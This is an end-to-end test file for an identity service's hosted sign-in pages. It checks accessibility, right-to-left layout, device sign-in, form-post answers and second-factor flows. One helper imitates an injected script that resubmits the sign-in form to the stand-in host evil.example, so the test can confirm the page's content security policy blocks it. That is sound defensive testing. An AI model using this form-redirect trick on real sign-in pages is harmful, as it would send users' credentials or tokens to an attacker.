import { AxeBuilder } from '@axe-core/playwright'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openPage, picture } from './browser.ts'
import { callApi, openStage, type Stage } from './open-stage.ts'

/** Every hosted page that somebody comes to on the way in and in his own account, as its reader's browser shows it. */
let stage: Stage
const stepMs = 90_000
/** Where the application is answered; the tests answer in its place. */
const home = 'https://shop.example.com/back'
beforeAll(async () => {
  stage = await openStage()
  await callApi(stage, 'POST', '/v1/applications', {
    applicationId: 'app_shop',
    name: 'Shop',
    redirectUrls: [home],
    deviceGrant: true,
  })
  const strict = { applicationId: 'app_vault', name: 'Vault', redirectUrls: [home], secondFactor: 'REQUIRED' }
  await callApi(stage, 'POST', '/v1/applications', strict)
}, stepMs)
afterAll(() => stage?.close())

/** Nothing is wrong with a page for who can't see it, and nothing is wider than a phone. */
async function look(page: Page, name: string): Promise<void> {
  const faults = (await new AxeBuilder({ page }).analyze()).violations
  expect(
    faults.map(({ id, nodes }) => `${name}: ${id} ${nodes[0]?.html}`),
    name,
  ).toEqual([])
  const over = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)
  expect(over, `${name} is wider than its window`).toBeLessThanOrEqual(0)
  await picture(page, `hosted-${name}`)
}

/** The code that a letter has in whatever language: two groups of digits in its subject or text. */
function digitsIn(mail: string): string {
  const [, first, second] = /\b(\d{4})[ _](\d{4})\b/.exec(mail.slice(mail.indexOf('Subject:'))) ?? []
  if (!first || !second) throw new Error('no code in this mail')
  return first + second
}

/** Gives a browser an authenticator that its person touches whenever it is asked. */
async function giveAuthenticator(page: Page): Promise<void> {
  const devices = await page.context().newCDPSession(page)
  await devices.send('WebAuthn.enable')
  const options = { protocol: 'ctap2', transport: 'usb', hasUserVerification: true, isUserVerified: true } as const
  await devices.send('WebAuthn.addVirtualAuthenticator', { options: { ...options, hasResidentKey: false } })
}

/** Answers the pages' first step by the code that is mailed. */
async function signInByMail(page: Page, email: string): Promise<void> {
  const mailNumber = stage.server.mailsSent() + 1
  await page.locator('input[name="email"]').fill(email)
  await page.locator('button[name="way"][value="code"]').click()
  await page.locator('input[name="code"]').fill(digitsIn(await stage.server.mail(mailNumber)))
  await page.locator('button.main').click()
}

/** What a device is told when it asks to be signed in. */
async function newDevice(): Promise<{ user_code: string }> {
  const answer = await fetch(`${stage.server.apiUrl}/api/oauth/device`, {
    method: 'POST',
    body: new URLSearchParams({ client_id: 'app_shop', scope: 'openid' }),
  })
  return (await answer.json()) as { user_code: string } // RFC 8628 §3.2
}

/** A sign-in to the application that asks who it is, and is answered by form. */
function signInAddress(more: Record<string, string>): string {
  const asked = new URLSearchParams({
    ...{ client_id: 'app_shop', redirect_uri: home, response_type: 'code', scope: 'openid', state: 's1', nonce: 'n1' },
    ...{ code_challenge: 'c'.repeat(43), code_challenge_method: 'S256', ...more },
  })
  return `${stage.server.apiUrl}/?${asked}`
}

/** Has a form of the page sent somewhere else, as a script that was slipped in would; what the page's own policy says to it. */
const sendElsewhere = (page: Page) =>
  page.evaluate(() => {
    const told = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective)),
    )
    const form = document.querySelector('form')?.cloneNode(true) as HTMLFormElement // there is one on the page
    form.action = 'https://evil.example/'
    document.body.append(form)
    form.submit()
    return told
  })

const heading = (page: Page) => page.getByRole('heading', { level: 1 }).waitFor()

describe.each([
  ['en', 'light', 'ltr'],
  ['de', 'dark', 'ltr'],
  ['ar-XB', 'light', 'rtl'],
] as const)('LGN-01 the hosted pages in %s, %s', (locale, colorScheme, direction) => {
  it(
    'can be read and used by everybody, on a phone too',
    async () => {
      const { server } = stage
      const { page, problems } = await openPage(stage.browser, {
        locale,
        colorScheme,
        viewport: { width: 400, height: 800 },
      })
      const at = (name: string) => `${locale}-${colorScheme}-${name}`
      const email = `sam-${locale.toLowerCase()}-${colorScheme}@example.com`
      await page.goto(`${server.apiUrl}/settings`)
      await heading(page)
      expect(await page.locator('html').getAttribute('dir')).toBe(direction)
      await look(page, at('sign-in'))
      await page.locator('a[href$="/forgotten"]').click()
      await heading(page)
      await look(page, at('forgotten'))
      await page.goBack()
      await page.locator('a[href$="/sign-up"]').click()
      await heading(page)
      await look(page, at('sign-up'))
      await page.goBack()
      const mailNumber = server.mailsSent() + 1
      await page.locator('input[name="email"]').fill(email)
      await page.locator('button[name="way"][value="code"]').click()
      await page.locator('input[name="code"]').waitFor()
      await look(page, at('code'))
      await page.locator('input[name="code"]').fill('0000 0000')
      await page.locator('button.main').click()
      await page.locator('[role="alert"], [aria-invalid="true"]').first().waitFor()
      await look(page, at('wrong-code'))
      await page.locator('input[name="code"]').fill(digitsIn(await server.mail(mailNumber)))
      await page.locator('button.main').click()
      await page.waitForURL('**/settings**')
      const own = ['', '/email', '/sessions/end-all', '/factors', '/factors/app', '/factors/passkey']
      const others = [`/login/${'x'.repeat(43)}`, '/nothing-here', '/?client_id=app_none', '/api/oauth/logout']
      for (const path of [...own.map((each) => `/settings${each}`), ...others]) {
        await page.goto(server.apiUrl + path)
        await heading(page)
        await look(page, at(path.replaceAll('/', '-').slice(0, 40)))
      }
      await giveAuthenticator(page)
      await page.goto(`${server.apiUrl}/settings/factors/passkey`)
      await page.locator('button.main').click()
      await page.locator('ul.codes').waitFor()
      await look(page, at('recovery-codes'))
      await page.context().clearCookies()
      await page.goto(`${server.apiUrl}/settings`)
      const secondMail = server.mailsSent() + 1
      await page.locator('input[name="email"]').fill(email)
      await page.locator('button[name="way"][value="code"]').click()
      await page.locator('input[name="code"]').fill(digitsIn(await server.mail(secondMail)))
      await page.locator('button.main').click()
      await page.waitForURL('**/second**')
      await heading(page)
      await look(page, at('second-step'))
      await page.locator('a[href$="/second/recovery"]').click()
      await heading(page)
      await look(page, at('recovery'))
      expect(problems.filter((problem) => !/status of (400|404)/.test(problem))).toEqual([])
      await page.context().close()
    },
    stepMs,
  )

  it(
    'LGN-06 those of devices, of choosing a person and of an answer by form too; that goes where it may and nowhere else',
    async () => {
      const { server } = stage
      const { page, problems } = await openPage(stage.browser, {
        locale,
        colorScheme,
        viewport: { width: 400, height: 800 },
      })
      const at = (name: string) => `${locale}-${colorScheme}-${name}`
      const email = `eva-${locale.toLowerCase()}-${colorScheme}@example.com`
      const received: string[] = []
      let stays = false
      await page.route('https://*.example*/**', (route) => {
        const asked = route.request()
        received.push(`${asked.method()} ${asked.url()}`)
        if (stays || !asked.url().startsWith(home)) return route.fulfill({ status: 204 })
        const state = new URLSearchParams(asked.postData() ?? '').get('state')
        return route.fulfill({ contentType: 'text/html', body: `<!doctype html><title>Shop</title><h1>${state}</h1>` })
      })
      await page.goto(signInAddress({}))
      await signInByMail(page, email)
      await page.waitForURL(`${home}?**`)
      const { user_code } = await newDevice()
      await page.goto(`${server.apiUrl}/device`)
      await heading(page)
      expect(await page.locator('html').getAttribute('dir')).toBe(direction)
      await look(page, at('device'))
      await page.locator('input[name="user_code"]').fill('BBBB-BBBB')
      await page.locator('button.main').click()
      await page.locator('[aria-invalid="true"]').waitFor()
      await look(page, at('device-wrong'))
      await page.locator('input[name="user_code"]').fill(user_code)
      await page.locator('button.main').click()
      await page.locator('button[name="answer"][value="yes"]').waitFor()
      await look(page, at('device-ask'))
      await page.locator('button[name="answer"][value="yes"]').click()
      await page.locator('button[name="answer"]').waitFor({ state: 'detached' })
      await heading(page)
      await look(page, at('device-done'))

      received.length = 0
      stays = true
      await page.goto(signInAddress({ prompt: 'select_account', response_mode: 'form_post' }))
      await page.locator('button[name="session"]').waitFor()
      await look(page, at('choose'))
      await page.locator('button[name="session"]').first().click()
      await expect.poll(() => received).toEqual([`POST ${home}`]) // by itself
      await look(page, at('answer-by-form'))
      expect(await sendElsewhere(page)).toBe('form-action')
      expect(received).toHaveLength(1)
      stays = false
      await page.goto(signInAddress({ prompt: 'none', response_mode: 'form_post' })).catch(() => undefined) // the page leaves
      await page.waitForURL(home)
      expect(await page.getByRole('heading').textContent()).toBe('s1')
      await page.context().clearCookies()
      await page.goto(signInAddress({ client_id: 'app_vault' }))
      await signInByMail(page, email)
      await page.waitForURL('**/second/new')
      await heading(page)
      await look(page, at('first-factor'))
      expect(problems.filter((problem) => !/status of 400|evil\.example/.test(problem))).toEqual([])
      await page.context().close()
    },
    stepMs,
  )
})
